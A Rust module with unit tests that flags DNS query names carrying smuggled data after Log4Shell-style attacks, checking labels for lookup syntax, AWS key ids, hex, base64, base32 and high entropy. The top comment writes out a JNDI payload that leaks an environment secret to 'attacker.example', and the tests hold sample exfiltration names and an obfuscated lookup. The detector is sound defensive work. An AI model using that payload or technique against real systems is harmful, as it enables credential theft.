//! How a policy judges a DNS query name (rule `jvm_dns_exfil`).
//!
//! A Log4Shell payload can leak a secret without any LDAP server: `${jndi:dns://...}` or
//! `${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}` makes the JVM resolve a
//! name that carries the value, and the attacker reads it from their name server's log. The
//! value ends up as a label of the query name, so the checks here look at labels: for lookup
//! syntax that was not expanded, for the shapes of common secrets and encodings, and for
//! labels too long or too random to be a host name. The kernel only recognises DNS; the name
//! is judged here, in userspace.

use super::DnsPolicy;

/// The shortest base64 or base32 run that counts as encoded data.
const MIN_ENCODED: usize = 24;
/// The shortest run of hex digits that counts as a hash or a hex-encoded secret (an MD5).
const MIN_HEX: usize = 32;
/// An AWS access key id: `AKIA` (long-term) or `ASIA` (temporary) and 16 more characters.
const AWS_KEY_LEN: usize = 20;

// === impl DnsPolicy ===

impl DnsPolicy {
    /// Why the query name `name` looks like data being smuggled out, or `None` when it looks
    /// like a host name. Names equal to or under one of `allow_suffixes` are never suspicious.
    ///
    /// Each label is checked, in this order, for: lookup syntax (`${`, `}`, `:-`); a secret's
    /// or an encoding's shape (`secret_shape`); more than `max_label_len` bytes; a run of at
    /// least `entropy_min_len` letters and digits, with a digit among them, whose Shannon
    /// entropy is at least `entropy_bits` per character. The digit is required because long
    /// words joined together (`productcatalogservice`, `snowflakecomputing`) reach 3.5 to 4
    /// bits as easily as random text of the same length, while every common encoding of
    /// binary data (hex, base32, base36, base64) has digits.
    pub fn suspicious(&self, name: &str) -> Option<String> {
        let name = name.strip_suffix('.').unwrap_or(name);
        if self.is_allowed(name) {
            return None;
        }
        name.split('.')
            .filter(|label| !label.is_empty())
            .find_map(|label| self.suspicious_label(label))
    }

    /// `name` is one of `allow_suffixes` or ends with `.` and one of them.
    fn is_allowed(&self, name: &str) -> bool {
        let name = name.to_ascii_lowercase();
        self.allow_suffixes.iter().any(|suffix| {
            name.strip_suffix(suffix.as_str())
                .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
        })
    }

    fn suspicious_label(&self, label: &str) -> Option<String> {
        if let Some(token) = ["${", "}", ":-"].into_iter().find(|t| label.contains(t)) {
            return Some(format!(
                "label {label:?} holds an unexpanded lookup ({token:?})"
            ));
        }
        if let Some(shape) = secret_shape(label) {
            return Some(format!("label {label:?} {shape}"));
        }
        if label.len() > self.max_label_len {
            return Some(format!(
                "label {label:?} is {} characters long, more than {}",
                label.len(),
                self.max_label_len
            ));
        }
        runs(label, |b| b.is_ascii_alphanumeric())
            .filter(|run| run.len() >= self.entropy_min_len && has(run, |b| b.is_ascii_digit()))
            .map(|run| (run, entropy(run)))
            .find(|(_, bits)| *bits >= self.entropy_bits)
            .map(|(run, bits)| {
                format!(
                    "label {label:?} looks random: {run:?} has {bits:.2} bits of entropy per \
                     character (threshold {})",
                    self.entropy_bits
                )
            })
    }
}

/// What a label looks like when it looks like a secret or encoded data, as the end of a
/// sentence starting with the label:
///
/// - an AWS access key id: a run of exactly 20 letters and digits starting with `AKIA` or
///   `ASIA` (either case: `${lower:...}` is a known evasion) with a digit after the prefix;
/// - 32 or more hex digits in a row (an MD5 or longer hash, a hex-encoded key);
/// - base64: a run of 24 or more of `A-Z a-z 0-9 + / = _` with capitals, small letters and
///   digits (host names are written in one case);
/// - base32: a run of 24 or more of `A-Z 2-7 =` with letters and digits;
/// - any character a host name never has (letters, digits, `-` and `_` are all it has).
fn secret_shape(label: &str) -> Option<String> {
    let aws_key = runs(label, |b| b.is_ascii_alphanumeric()).any(|run| {
        let upper = run.to_ascii_uppercase();
        run.len() == AWS_KEY_LEN
            && (upper.starts_with("AKIA") || upper.starts_with("ASIA"))
            && has(&run[4..], |b| b.is_ascii_digit())
    });
    if aws_key {
        return Some("looks like an AWS access key id".to_owned());
    }
    if let Some(run) = runs(label, |b| b.is_ascii_hexdigit()).find(|run| run.len() >= MIN_HEX) {
        return Some(format!(
            "holds {} hex digits in a row, like a hash or a hex-encoded secret",
            run.len()
        ));
    }
    let base64 = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_');
    if let Some(run) = runs(label, base64).find(|run| {
        run.len() >= MIN_ENCODED
            && has(run, |b| b.is_ascii_uppercase())
            && has(run, |b| b.is_ascii_lowercase())
            && has(run, |b| b.is_ascii_digit())
    }) {
        return Some(format!(
            "looks like base64: {} characters of both cases and digits",
            run.len()
        ));
    }
    let base32 = |b: u8| b.is_ascii_uppercase() || matches!(b, b'2'..=b'7' | b'=');
    if let Some(run) = runs(label, base32).find(|run| {
        run.len() >= MIN_ENCODED
            && has(run, |b| b.is_ascii_uppercase())
            && has(run, |b| b.is_ascii_digit())
    }) {
        return Some(format!(
            "looks like base32: {} capitals and digits 2-7",
            run.len()
        ));
    }
    let mut odd: Vec<char> = label
        .chars()
        .filter(|c| !(c.is_ascii_alphanumeric() || *c == '-' || *c == '_'))
        .collect();
    odd.sort_unstable();
    odd.dedup();
    if !odd.is_empty() {
        let odd: String = odd.into_iter().collect();
        return Some(format!("has characters no host name has ({odd:?})"));
    }
    None
}

/// The maximal runs of bytes of `label` for which `class` holds.
fn runs(label: &str, class: impl Fn(u8) -> bool + Copy) -> impl Iterator<Item = &str> {
    // `class` only ever holds for ASCII bytes here, so splitting at the others keeps every
    // run on character boundaries.
    label
        .split(move |c: char| !(c.is_ascii() && class(c as u8)))
        .filter(|run| !run.is_empty())
}

fn has(text: &str, class: impl Fn(u8) -> bool) -> bool {
    text.bytes().any(class)
}

/// Shannon entropy of `text`'s bytes, in bits per byte.
fn entropy(text: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in text.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = text.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dns() -> DnsPolicy {
        crate::policy::Policy::builtin().dns
    }

    #[track_caller]
    fn assert_benign(p: &DnsPolicy, name: &str) {
        assert_eq!(p.suspicious(name), None, "{name}");
    }

    #[track_caller]
    fn assert_suspicious(p: &DnsPolicy, name: &str, reason_part: &str) {
        match p.suspicious(name) {
            Some(reason) => assert!(
                reason.contains(reason_part),
                "{name}: expected a reason with {reason_part:?}, got {reason:?}"
            ),
            None => panic!("{name}: not suspicious"),
        }
    }

    #[test]
    fn ordinary_names_are_not_suspicious() {
        let p = dns();
        for name in [
            "repo.maven.apache.org",
            "repo1.maven.org.",
            "login.microsoftonline.com",
            "ec2-3-91-12-7.compute-1.amazonaws.com",
            "ip-10-0-12-34.eu-west-1.compute.internal",
            "_ldap._tcp.corp.example.com",
            "_ldap._tcp.dc._msdcs.corp.example.com",
            "payments-api.prod.svc.cluster.local",
            "kafka-0.kafka-headless.messaging.svc.cluster.local",
            "productcatalogservice.online-boutique.svc.cluster.local",
            "prometheus-kube-state-metrics.monitoring.svc.cluster.local",
            "ingress-nginx-controller-admission.ingress-nginx.svc",
            "checkoutservice-7d9f8b6c5-x2k4z",
            "xy12345.eu-central-1.snowflakecomputing.com",
            "github-production-release-asset-2e65be.s3.amazonaws.com",
            "pagead2.googlesyndication.com",
            "d3c33hcgiwev3.cloudfront.net",
            "s3.dualstack.eu-central-1.amazonaws.com",
            "sts.us-east-1.amazonaws.com",
            "xn--bcher-kva.example",
            "plugins.gradle.org",
            "localhost",
            "",
        ] {
            assert_benign(&p, name);
        }
    }

    #[test]
    fn exfiltration_is_suspicious() {
        let p = dns();
        assert_suspicious(
            &p,
            "AKIAIOSFODNN7EXAMPLE.attacker.example",
            "looks like an AWS access key id",
        );
        // `${lower:${env:AWS_ACCESS_KEY_ID}}`, the usual evasion.
        assert_suspicious(
            &p,
            "akiaiosfodnn7example.attacker.example",
            "AWS access key id",
        );
        // base64 of "hunter2:S3cr3tP4ss", padding stripped.
        assert_suspicious(
            &p,
            "aHVudGVyMjpTM2NyM3RQNHNz.x.attacker.example",
            "looks like base64",
        );
        // An AWS secret access key: 40 characters of base64 with a '/'.
        assert_suspicious(
            &p,
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY.attacker.example",
            "looks like base64",
        );
        assert_suspicious(
            &p,
            "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43U.attacker.example",
            "looks like base32",
        );
        assert_suspicious(
            &p,
            "5f4dcc3b5aa765d61d8327deb882cf99.attacker.example",
            "32 hex digits",
        );
        // 50 random characters, the way dnscat or iodine chunk data.
        assert_suspicious(
            &p,
            "ujzde8gxd6ncf10epf91dhodzdoc9is0j8ht9lgmxg9edn581u.t.attacker.example",
            "is 50 characters long, more than 40",
        );
        // Shorter random chunks: caught by entropy.
        assert_suspicious(
            &p,
            "fr4edt2sywb3wkh5.0.attacker.example",
            "looks random: \"fr4edt2sywb3wkh5\" has 3.88 bits",
        );
        assert_suspicious(
            &p,
            "${env:AWS_SECRET_ACCESS_KEY}.x.example",
            "unexpanded lookup (\"${\")",
        );
        assert_suspicious(&p, "${::-j}ndi.x.example", "unexpanded lookup");
        assert_suspicious(
            &p,
            "Summer2024!.attacker.example",
            "no host name has (\"!\")",
        );
    }

    #[test]
    fn allow_suffixes_silence_whole_domains() {
        let mut p = dns();
        // A Kubernetes load balancer's name is "a" and 31 hex digits: it looks like a hash.
        let elb = "a1b2c3d4e5f60718293a4b5c6d7e8f90-1234567890.us-east-1.elb.amazonaws.com";
        assert_suspicious(&p, elb, "hex digits");
        p.allow_suffixes = vec!["elb.amazonaws.com".to_owned(), "corp.example".to_owned()];
        assert_benign(&p, elb);
        assert_benign(&p, "ELB.AMAZONAWS.COM.");
        assert_benign(&p, "AKIAIOSFODNN7EXAMPLE.corp.example");
        // On a label boundary only.
        assert_suspicious(&p, "AKIAIOSFODNN7EXAMPLE.evilcorp.example", "AWS");
    }

    #[test]
    fn thresholds_come_from_the_policy() {
        let mut p = dns();
        let long = format!("{}.example", "q".repeat(41));
        assert_suspicious(&p, &long, "is 41 characters long");
        p.max_label_len = 63;
        assert_benign(&p, &long);

        let random = "fr4edt2sywb3wkh5.example";
        p.entropy_bits = 4.0;
        assert_benign(&p, random);
        p.entropy_bits = 3.5;
        p.entropy_min_len = 17;
        assert_benign(&p, random);
        // Runs without a digit are never judged by entropy.
        p.entropy_min_len = 16;
        assert_benign(&p, "frqedtxsywbiwkhv.example");
    }

    #[test]
    fn entropy_in_bits_per_character() {
        assert_eq!(entropy("aaaa"), 0.0);
        assert_eq!(entropy("abab"), 1.0);
        assert_eq!(entropy("abcdefghijklmnop"), 4.0);
    }
}
